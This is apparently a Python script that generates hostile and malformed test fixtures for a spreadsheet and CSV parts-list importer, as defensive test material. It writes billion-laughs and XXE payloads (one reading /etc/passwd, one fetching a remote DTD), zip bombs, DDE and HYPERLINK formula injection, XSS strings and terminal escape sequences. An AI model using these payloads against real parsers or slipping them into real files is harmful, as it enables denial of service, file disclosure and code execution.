"""Write the hostile and broken inputs of tests/data/bad/ (see bad/manifest.csv).

    python tests/data/build_bad_inputs.py

Every file is a real format, made by openpyxl or by editing the zip and XML of a real
workbook the way an attacker or a broken exporter would. The expected outcome of each
file is written by hand in ``bad/manifest.csv``, not here: this script only makes files.
The files are committed, so the test suite never runs this script.
"""

from __future__ import annotations

import datetime as dt
import gzip
import io
import re
import struct
import zipfile
import zlib
from pathlib import Path

from openpyxl import Workbook
from openpyxl.chart import BarChart, Reference

BAD = Path(__file__).resolve().parent / "bad"
FIXED = dt.datetime(2024, 1, 1)
HEADER = ["Marking", "Manufacturer", "Qty"]
PARTS = [["STM32F405RGT6", "ST", 1], ["LM358DR", "", 2], ["NEO-M8N", "u-blox", 1]]
CSV_TEXT = "Marking,Manufacturer,Qty\r\nSTM32F405RGT6,ST,1\r\nLM358DR,,2\r\nNEO-M8N,u-blox,1\r\n"
ZIP_TIME = (2024, 1, 1, 0, 0, 0)


def book_bytes(book: Workbook) -> bytes:
    book.properties.created = FIXED
    book.properties.modified = FIXED
    buffer = io.BytesIO()
    book.save(buffer)
    return buffer.getvalue()


def parts_book(
    rows: list[list[object]] | None = None, title: str = "Parts"
) -> Workbook:
    book = Workbook()
    ws = book.active
    ws.title = title
    for row in rows if rows is not None else [HEADER, *PARTS]:
        ws.append(row)
    return book


def members(data: bytes) -> dict[str, bytes]:
    with zipfile.ZipFile(io.BytesIO(data)) as source:
        return {name: source.read(name) for name in source.namelist()}


def zip_bytes(items: dict[str, bytes], level: int = 6) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED, compresslevel=level) as out:
        for name, data in items.items():
            info = zipfile.ZipInfo(name, ZIP_TIME)
            info.compress_type = zipfile.ZIP_DEFLATED
            out.writestr(info, data)
    return buffer.getvalue()


SHEET1 = "xl/worksheets/sheet1.xml"


def edited(book: Workbook, part: str, data: bytes) -> bytes:
    """A workbook with one of its parts replaced."""
    items = members(book_bytes(book))
    assert part in items, part
    items[part] = data
    return zip_bytes(items)


def sheet_xml(book: Workbook) -> str:
    return members(book_bytes(book))["xl/worksheets/sheet1.xml"].decode()


def write(name: str, data: bytes) -> None:
    (BAD / name).write_bytes(data)


def build_xml_attacks() -> None:
    book = parts_book()
    items = members(book_bytes(book))
    laughs = (
        '<?xml version="1.0"?>\n<!DOCTYPE lolz [\n <!ENTITY lol "lol">\n'
        + "".join(
            f' <!ENTITY lol{i} "{("&lol" + (str(i - 1) if i > 1 else "") + ";") * 10}">\n'
            for i in range(1, 10)
        )
        + "]>\n"
    )
    sst = (
        laughs
        + '<sst xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"'
        ' count="1" uniqueCount="1"><si><t>&lol9;</t></si></sst>'
    )
    items["xl/sharedStrings.xml"] = sst.encode()
    items["[Content_Types].xml"] = items["[Content_Types].xml"].replace(
        b"</Types>",
        b'<Override PartName="/xl/sharedStrings.xml" ContentType="application/'
        b'vnd.openxmlformats-officedocument.spreadsheetml.sharedStrings+xml"/></Types>',
    )
    items[SHEET1] = items[SHEET1].replace(
        b'<c r="A2" t="inlineStr"><is><t>STM32F405RGT6</t></is></c>',
        b'<c r="A2" t="s"><v>0</v></c>',
    )
    assert b'"s"><v>0' in items[SHEET1]
    write("billion_laughs.xlsx", zip_bytes(items))

    xxe = '<?xml version="1.0"?>\n<!DOCTYPE x [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>\n'
    sheet = re.sub(r"^<\?xml[^>]*\?>", "", sheet_xml(book))
    sheet = sheet.replace("<v>STM32F405RGT6</v>", "<v>&xxe;</v>")
    inline = sheet.replace('t="s"', 't="str"')
    write("xxe_local_file.xlsx", edited(book, SHEET1, (xxe + inline).encode()))
    workbook_xml = items["xl/workbook.xml"].decode()
    workbook_xml = re.sub(r"^<\?xml[^>]*\?>", "", workbook_xml)
    write(
        "xxe_workbook_part.xlsx",
        edited(
            book,
            "xl/workbook.xml",
            (
                '<?xml version="1.0"?>\n<!DOCTYPE w [<!ENTITY % remote SYSTEM'
                ' "http://127.0.0.1:9/evil.dtd"> %remote;]>\n' + workbook_xml
            ).encode(),
        ),
    )
    padded = '<?xml version="1.0"?>\n<!--' + " " * 70_000 + "-->\n" + laughs + sheet
    write("dtd_after_padding.xlsx", edited(book, SHEET1, padded.encode()))
    utf16 = ('<?xml version="1.0" encoding="UTF-16"?>\n' + laughs + sheet).encode(
        "utf-16"
    )
    write("dtd_utf16.xlsx", edited(book, SHEET1, utf16))


def build_zip_attacks() -> None:
    book = parts_book()
    items = members(book_bytes(book))
    # 1.1 GiB of zeros in a media part: honest sizes, past the 1 GiB default.
    huge = dict(items)
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED, compresslevel=9) as out:
        for name, data in huge.items():
            out.writestr(zipfile.ZipInfo(name, ZIP_TIME), data, zipfile.ZIP_DEFLATED)
        info = zipfile.ZipInfo("xl/media/image1.bin", ZIP_TIME)
        info.compress_type = zipfile.ZIP_DEFLATED
        with out.open(info, "w", force_zip64=True) as part:
            block = bytes(1 << 24)
            for _ in range(70):
                part.write(block)
    write("zip_bomb_size.xlsx", buffer.getvalue())
    # A sheet padded with 200 MB of spaces: compresses about 1000 to 1.
    sheet = sheet_xml(book)
    bomb = sheet.replace("<sheetData>", "<sheetData>" + " " * 200_000_000, 1)
    write("zip_bomb_ratio.xlsx", edited(book, SHEET1, bomb.encode()))
    many = dict(items)
    for index in range(10_001):
        many[f"xl/junk/{index}.bin"] = b""
    write("zip_many_parts.xlsx", zip_bytes(many))
    # A directory that lies: declares 5 GiB for a small part.
    honest = zip_bytes(items)
    write(
        "zip_size_lie.xlsx", _declare_size(honest, "xl/worksheets/sheet1.xml", 5 << 30)
    )


def _declare_size(data: bytes, member: str, size: int) -> bytes:
    """Rewrites the uncompressed size of one part in the central directory."""
    out = bytearray(data)
    at = 0
    while (at := out.find(b"PK\x01\x02", at)) != -1:
        name_len = struct.unpack_from("<H", out, at + 28)[0]
        name = bytes(out[at + 46 : at + 46 + name_len]).decode()
        if name == member:
            struct.pack_into("<I", out, at + 24, min(size, 0xFFFFFFFE))
        at += 4
    return bytes(out)


def build_damaged() -> None:
    book = parts_book([HEADER, *PARTS, ["AO3401A", "AOS", 4], ["CC1101RGPR", "TI", 1]])
    sheet = sheet_xml(book)
    cut = sheet.index('<row r="5"')
    broken = sheet[:cut] + '<row r="5"><c r="A5" t="inlineStr"><is><t>AO34'
    write("sheet_cut_short.xlsx", edited(book, SHEET1, broken.encode()))
    two = parts_book()
    second = two.create_sheet("Board B")
    for row in [HEADER, ["CC1101RGPR", "TI", 1]]:
        second.append(row)
    items = members(book_bytes(two))
    second_xml = items["xl/worksheets/sheet2.xml"].decode()
    items["xl/worksheets/sheet2.xml"] = second_xml[
        : second_xml.index('<row r="2"') + 30
    ].encode()
    write("second_sheet_damaged.xlsx", zip_bytes(items))
    write("pk_header_junk.xlsx", b"PK\x03\x04" + bytes(range(256)) * 4)
    no_sheets = members(book_bytes(parts_book()))
    del no_sheets["xl/worksheets/sheet1.xml"]
    write("missing_sheet_part.xlsx", zip_bytes(no_sheets))
    raw = zlib.compress(CSV_TEXT.encode())
    write("zip_archive.xlsx", zip_bytes({"parts.csv": CSV_TEXT.encode(), "raw.z": raw}))
    write(
        "word_document.xlsx",
        zip_bytes(
            {
                "[Content_Types].xml": b'<?xml version="1.0"?><Types/>',
                "word/document.xml": b'<?xml version="1.0"?><document/>',
            }
        ),
    )
    write(
        "opendocument.xlsx",
        zip_bytes(
            {
                "mimetype": b"application/vnd.oasis.opendocument.spreadsheet",
                "content.xml": b'<?xml version="1.0"?><office:document-content/>',
            }
        ),
    )


def build_structure() -> None:
    # openpyxl cuts cells at Excel's 32,767 characters on writing: edit the XML instead.
    book = parts_book()
    huge = sheet_xml(book).replace(
        "<t>LM358DR</t>", "<t>LM358DR " + "X" * 100_000 + "</t>"
    )
    write("enormous_cell.xlsx", edited(book, SHEET1, huge.encode()))
    wide = [
        [*HEADER, *(f"Extra {i}" for i in range(3, 16_384))],
        ["STM32F405RGT6", "ST", 1, *(["x"] * 16_381)],
    ]
    write("many_columns.xlsx", book_bytes(parts_book(wide)))
    far = parts_book()
    far.active["XFD2"] = "far away"
    write("far_column.xlsx", book_bytes(far))
    lie = sheet_xml(book := parts_book())
    lie = re.sub(
        r'<dimension ref="[^"]*"\s*/>', '<dimension ref="A1:XFD1048576"/>', lie
    )
    write("dimension_lie.xlsx", edited(book, SHEET1, lie.encode()))
    gap = sheet_xml(book := parts_book())
    gap = gap.replace(
        "</sheetData>",
        '<row r="2000000"><c r="A2000000" t="inlineStr"><is><t>LATE1</t></is></c></row></sheetData>',
    )
    write("row_past_excel_limit.xlsx", edited(book, SHEET1, gap.encode()))
    merged = parts_book()
    ws = merged.active
    for row in range(10, 5010):
        ws.merge_cells(start_row=row, start_column=5, end_row=row, end_column=8)
    ws.merge_cells("A20000:Z30000")
    write("massively_merged.xlsx", book_bytes(merged))
    header = parts_book([["Components", "", ""], HEADER, *PARTS])
    header.active.merge_cells("A1:C1")
    header.active.merge_cells("C3:C4")
    write("merged_header.xlsx", book_bytes(header))
    hidden = parts_book([HEADER, ["AO3401A", "AOS", 2]], "Visible")
    spare = hidden.create_sheet("Spare parts")
    for row in [HEADER, *PARTS]:
        spare.append(row)
    spare.sheet_state = "hidden"
    very = hidden.create_sheet("Secret")
    for row in [HEADER, ["CC1101RGPR", "TI", 1]]:
        very.append(row)
    very.sheet_state = "veryHidden"
    write("hidden_sheets.xlsx", book_bytes(hidden))
    chart = Workbook()
    data = chart.active
    for row in [["n"], [1], [2]]:
        data.append(row)
    bar = BarChart()
    bar.add_data(
        Reference(data, min_col=1, min_row=1, max_row=3), titles_from_data=True
    )
    chart.create_chartsheet("Chart1").add_chart(bar)
    chart.remove(data)
    write("chart_only.xlsx", book_bytes(chart))
    mixed = parts_book()
    bar = BarChart()
    bar.add_data(
        Reference(mixed.active, min_col=3, min_row=1, max_row=4), titles_from_data=True
    )
    mixed.create_chartsheet("Quantities").add_chart(bar)
    write("chart_and_parts.xlsx", book_bytes(mixed))
    empty_book = Workbook()
    empty_book.active.title = "Blank"
    write("empty_workbook.xlsx", book_bytes(empty_book))


def build_cell_content() -> None:
    hostile = [
        HEADER,
        ['=HYPERLINK("http://127.0.0.1/x?"&A3,"click")', "ST", 1],
        ["=cmd|' /C calc'!A0", "", 1],
        ["+SUM(1,2)", "@evil", "-1+1"],
        ["\tTAB-LED", "\rCR-LED", 1],
        ["<script>alert(1)</script>", '"><img src=x onerror=alert(2)>', 1],
        ["</script><script>alert(3)</script>", "javascript:alert(4)", 1],
        ['{"a": "</script>"}', "&lt;b&gt;", 1],
        ["STM32F405RGT6", "ST", 1],
    ]
    book = parts_book(hostile)
    for row in book.active.iter_rows(min_row=3):
        for cell in row:
            if isinstance(cell.value, str):
                cell.data_type = "s"  # text that looks like a formula, as pasted
    write("injection_cells.xlsx", book_bytes(book))
    named = parts_book(title="<svg onload=alert(5)>")
    write("hostile_sheet_name.xlsx", book_bytes(named))
    formulas = parts_book([HEADER, ["STM32F405RGT6", "ST", 1], ["LM358DR", "", 2]])
    formulas.active["C2"] = "=1+1"
    formulas.active["A4"] = '=CONCAT("NEO-","M8N")'
    write("formulas_without_cache.xlsx", book_bytes(formulas))
    write("xlsx_named.csv", book_bytes(parts_book()))
    write("xlsx_without_suffix", book_bytes(parts_book()))


def build_text() -> None:
    write("bom_only.csv", b"\xef\xbb\xbf")
    write("whitespace_only.csv", b"\r\n\r\n  \t \n,,,\n")
    write(
        "nul_bytes.csv",
        CSV_TEXT.replace("LM358DR", "LM358\x00DR").encode() + b"\x00" * 3,
    )
    broken = "Маркування,Виробник,Кількість\nSTM32F405RGT6,ST,1\nLM358DR,Техас,2\nNEO-M8N,u-blox,1\n"
    data = broken.encode("utf-8").replace(
        "Техас".encode(), "Тех".encode() + b"\xff\xfe" + "ас".encode()
    )
    write("broken_utf8.csv", data)
    write("cr_line_endings.csv", CSV_TEXT.replace("\r\n", "\r").encode())
    write(
        "mixed_line_endings.csv",
        b"Marking,Qty\r\nSTM32F405RGT6,1\nLM358DR,2\rNEO-M8N,1\r\n",
    )
    write(
        "unterminated_quote.csv",
        b'Marking,Qty\nSTM32F405RGT6,1\n"LM358DR,2\nNEO-M8N,1\n',
    )
    write(
        "stray_quotes.csv", b'Marking,Qty\nSTM"32F405RGT6,1\nLM358DR",2\n"NEO-M8N" ,1\n'
    )
    write(
        "enormous_cell.csv",
        (CSV_TEXT + "LM358DR" + "Y" * 300_000 + ",TI,1\r\n").encode(),
    )
    wide = ",".join(["Marking", *(f"c{i}" for i in range(20_000))]) + "\n"
    wide += ",".join(["STM32F405RGT6", *(["1"] * 20_000)]) + "\n"
    write("many_columns.csv", wide.encode())
    write(
        "injection_cells.csv",
        (
            b"Marking,Manufacturer,Notes\n"
            b'"=HYPERLINK(""http://127.0.0.1"",""x"")",ST,\n'
            b"@SUM(A1),=1+1,-2\n"
            b'<script>alert(1)</script>,<b>bold</b>,"\'""><svg onload=alert(1)>"\n'
            b"STM32F405RGT6,ST,ok\n"
        ),
    )
    padding = "".join(f"PAD{i:04d},filler,{i}\n" for i in range(60))
    write(
        "terminal_escapes.csv",
        ("Notes\x1b[2J,Other\n\x1b]0;owned\x07title,x\n" + padding).encode(),
    )
    write(
        "control_chars.csv",
        (
            "Marking,Qty\n\x1b[31mSTM32F405RGT6,1\nLM\x01358DR\x7f,2\n\x1b]8;;http://127.0.0.1\x07NEO-M8N,1\n"
            + padding
        ).encode(),
    )
    write("header_only.csv", b"Marking,Manufacturer,Qty\r\n")
    write("no_part_column.csv", b"Weight,Colour\n14 kg,grey\n")
    write(
        "html_named.xlsx",
        b"<!DOCTYPE html><html><body><table><tr><td>Marking</td></tr></table></body></html>",
    )
    write(
        "html_named.csv",
        b"<html><head><title>Export</title></head><body><table><tr><td>STM32</td></tr></table></body></html>",
    )
    write(
        "excel2003_xml.xlsx",
        b'<?xml version="1.0"?>\n<?mso-application progid="Excel.Sheet"?>\n<Workbook xmlns="urn:schemas-microsoft-com:office:spreadsheet"></Workbook>',
    )
    write(
        "pdf_named.xlsx",
        b"%PDF-1.4\n%\xe2\xe3\xcf\xd3\n1 0 obj\n<<>>\nendobj\ntrailer\n<<>>\n%%EOF\n",
    )
    write("png_named.csv", b"\x89PNG\r\n\x1a\n" + bytes(range(256)))
    write("exe_named.xlsx", b"MZ\x90\x00\x03" + bytes(300))
    write("gzip_named.csv", gzip.compress(CSV_TEXT.encode(), mtime=0))
    write("plain_parts.csv", CSV_TEXT.encode())


if __name__ == "__main__":
    BAD.mkdir(parents=True, exist_ok=True)
    build_xml_attacks()
    build_zip_attacks()
    build_damaged()
    build_structure()
    build_cell_content()
    build_text()
    for path in sorted(BAD.iterdir()):
        print(f"{path.stat().st_size:>10}  {path.name}")
